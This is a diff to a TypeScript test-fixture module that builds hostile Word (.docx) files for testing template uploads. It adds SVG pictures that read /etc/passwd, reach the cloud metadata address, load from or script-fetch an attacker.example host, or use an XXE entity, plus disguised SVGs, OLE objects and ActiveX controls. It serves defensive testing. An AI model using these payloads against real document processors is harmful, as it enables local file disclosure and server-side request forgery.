@@ -1,9 +1,10 @@
-import { crc32, deflateRawSync } from 'node:zlib';
+import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
 
 /**
  * Test fixtures: a minimal zip writer with full control over what the directory declares, and hostile .docx
  * files built with it (zip bombs that declare or hide their size, too many entries, huge XML, DTDs, external
- * links, encrypted entries, bad checksums). Used by the unit tests and the HTTP tests of template uploads.
+ * links, encrypted entries, bad checksums, SVG images that read files or run scripts, OLE objects and ActiveX
+ * controls). Used by the unit tests and the HTTP tests of template uploads.
  */
 
 export interface RawEntry {
@@ -100,6 +101,61 @@ export function mainPartNotNamedXml(data: string | Uint8Array, declare: 'overrid
   ]);
 }
 
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const PACKAGE_RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';
+const relsPart = (name: string, relationships: string): RawEntry => ({ name, data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${PACKAGE_RELS}">${relationships}</Relationships>` });
+const relationship = (id: string, type: string, target: string) => `<Relationship Id="${id}" Type="${type.includes(':') ? type : `${REL}/${type}`}" Target="${target}"/>`;
+
+/** A 1×1 PNG: the fallback Word writes beside an SVG picture, and the image a legitimate SVG may embed. */
+export const PNG_1X1_BASE64 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
+
+/** An SVG document with `body` in its root element (the SVG and XLink namespaces declared). */
+export const svgImage = (body: string, prolog = '<?xml version="1.0" encoding="UTF-8"?>') =>
+  `${prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="40" viewBox="0 0 120 40">${body}</svg>`;
+
+/** `<w:drawing>` of a picture whose blip is `rId5` (the PNG fallback) with the SVG `rId6` in its extensions, as Word 2016+ writes it. */
+export const SVG_PICTURE =
+  '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="1143000" cy="381000"/><wp:docPr id="1" name="Picture 1"/>' +
+  '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">' +
+  '<pic:nvPicPr><pic:cNvPr id="1" name="logo.svg"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId5"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">' +
+  '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId6"/></a:ext></a:extLst></a:blip><a:stretch><a:fillRect/></a:stretch></pic:blipFill>' +
+  '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1143000" cy="381000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';
+
+/**
+ * A template (`{甲方}`) with an SVG picture and its PNG fallback as Word 2016+ writes them: the SVG in
+ * `word/${name}`, declared by its extension in [Content_Types].xml when `declare` (png and svg Defaults).
+ */
+export function svgPictureDocx(svg: string | Uint8Array, { name = 'media/image2.svg', declare = true } = {}): Uint8Array {
+  const defaults = declare ? '<Default Extension="png" ContentType="image/png"/><Default Extension="svg" ContentType="image/svg+xml"/>' : '<Default Extension="png" ContentType="image/png"/>';
+  return buildZip([
+    { name: '[Content_Types].xml', data: CONTENT_TYPES.replace('<Default Extension="xml"', `${defaults}<Default Extension="xml"`) },
+    { name: '_rels/.rels', data: ROOT_RELS },
+    { name: 'word/document.xml', data: documentXml(['甲方：{甲方}'], SVG_PICTURE) },
+    relsPart('word/_rels/document.xml.rels', relationship('rId5', 'image', 'media/image1.png') + relationship('rId6', 'image', name)),
+    { name: 'word/media/image1.png', data: new Uint8Array(Buffer.from(PNG_1X1_BASE64, 'base64')) },
+    { name: `word/${name}`, data: svg },
+  ]);
+}
+
+/** `<w:object>` as Word writes an embedded OLE object: a VML preview and `<o:OLEObject r:id="rId8">`. */
+export const OLE_OBJECT =
+  '<w:p><w:r><w:object xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" w:dxaOrig="1440" w:dyaOrig="1440">' +
+  '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:72pt;height:72pt"><v:imagedata r:id="rId7" o:title=""/></v:shape>' +
+  '<o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1700000000" r:id="rId8"/></w:object></w:r></w:p>';
+
+/**
+ * A template with an embedded object: `body` in word/document.xml, `relationships` in its relationship part,
+ * the embedded bytes (`word/embeddings/oleObject1.bin`, an OLE storage header) and a preview image beside.
+ */
+export function embeddedObjectDocx(body: string, relationships: string, extra: RawEntry[] = []): Uint8Array {
+  return simpleDocx(['甲方：{甲方}'], [
+    relsPart('word/_rels/document.xml.rels', relationships),
+    { name: 'word/media/image1.png', data: new Uint8Array(Buffer.from(PNG_1X1_BASE64, 'base64')) },
+    { name: 'word/embeddings/oleObject1.bin', data: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array<number>(504).fill(0)]) },
+    ...extra,
+  ], body);
+}
+
 const MiB = 1024 * 1024;
 let zeros64: Uint8Array | null = null;
 /** Raw deflate of 64 MiB of zeros (≈ 64 KB), made once. */
@@ -141,4 +197,32 @@ export const hostileDocx = {
   /** 80,000 tag openings in a main document named word/document.dat: it escaped the budgets of XML parts (1.5 s, 273 MB). */
   manyTagsNotNamedXml: () => mainPartNotNamedXml(documentXml(Array.from({ length: 20_000 }, () => '{a}{b}{c}{d}'))),
   badChecksum: () => buildZip([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: 'word/document.xml', data: documentXml(['x']), crc: 12345 }]),
+  /** SVG pictures (with their PNG fallback) that LibreOffice would make read a file, fetch a URL or run code. */
+  svgLocalFile: () => svgPictureDocx(svgImage('<image href="file:///etc/passwd" width="120" height="40"/>')),
+  svgRemoteImage: () => svgPictureDocx(svgImage('<image xlink:href="http://169.254.169.254/latest/meta-data/" width="120" height="40"/>')),
+  svgRemoteUse: () => svgPictureDocx(svgImage('<use href="http://attacker.example/sprite.svg#logo"/>')),
+  svgStyleImport: () => svgPictureDocx(svgImage('<style>@import url("http://attacker.example/a.css");</style><rect width="10" height="10"/>')),
+  svgStyleAttributeUrl: () => svgPictureDocx(svgImage('<rect width="10" height="10" style="fill:url(file:///etc/passwd#g)"/>')),
+  svgScript: () => svgPictureDocx(svgImage('<script>fetch("http://attacker.example/")</script>')),
+  svgForeignObject: () => svgPictureDocx(svgImage('<foreignObject width="100" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/passwd"/></foreignObject>')),
+  svgEventHandler: () => svgPictureDocx(svgImage('<rect width="10" height="10" onload="alert(1)"/>')),
+  svgExternalEntity: () => svgPictureDocx(svgImage('<text>&xxe;</text>', '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')),
+  svgEncodedHref: () => svgPictureDocx(svgImage('<image xlink:href="&#104;ttp://attacker.example/x.png" width="1" height="1"/>')),
+  /** An SVG named and declared as a PNG: LibreOffice picks an image's format from its bytes. */
+  svgNamedPng: () => svgPictureDocx(svgImage('<image href="file:///etc/passwd"/>'), { name: 'media/image2.png', declare: false }),
+  /** A gzip-compressed SVG (what LibreOffice reads as an .svgz), named .emz. */
+  svgz: () => svgPictureDocx(new Uint8Array(gzipSync(svgImage('<image href="file:///etc/passwd"/>'))), { name: 'media/image2.emz', declare: false }),
+  /** An embedded OLE object: `<w:object>`/`<o:OLEObject>` and its `oleObject` relationship. */
+  oleObject: () => embeddedObjectDocx(OLE_OBJECT, relationship('rId7', 'image', 'media/image1.png') + relationship('rId8', 'oleObject', 'embeddings/oleObject1.bin')),
+  /** Only an embedded workbook's `package` relationship (no element refers to it). */
+  embeddedPackage: () => embeddedObjectDocx('', relationship('rId8', 'package', 'embeddings/Microsoft_Excel_Worksheet.xlsx'), [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: 'PK' }]),
+  /** Only `<w:object>` (no relationship at all). */
+  oleElementOnly: () => embeddedObjectDocx(OLE_OBJECT.replace(/ r:id="rId\d"/g, ''), ''),
+  /** An ActiveX control: `<w:control r:id>`, its `control` part and that part's `activeXControlBinary`. */
+  activeXControl: () =>
+    embeddedObjectDocx('<w:p><w:r><w:control r:id="rId9" w:name="TextBox1" w:shapeid="_x0000_s1026"/></w:r></w:p>', relationship('rId9', 'control', 'activeX/activeX1.xml'), [
+      { name: 'word/activeX/activeX1.xml', data: '<?xml version="1.0" encoding="UTF-8"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage" r:id="rId1"/>' },
+      relsPart('word/activeX/_rels/activeX1.xml.rels', relationship('rId1', 'http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary', 'activeX1.bin')),
+      { name: 'word/activeX/activeX1.bin', data: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) },
+    ]),
 };
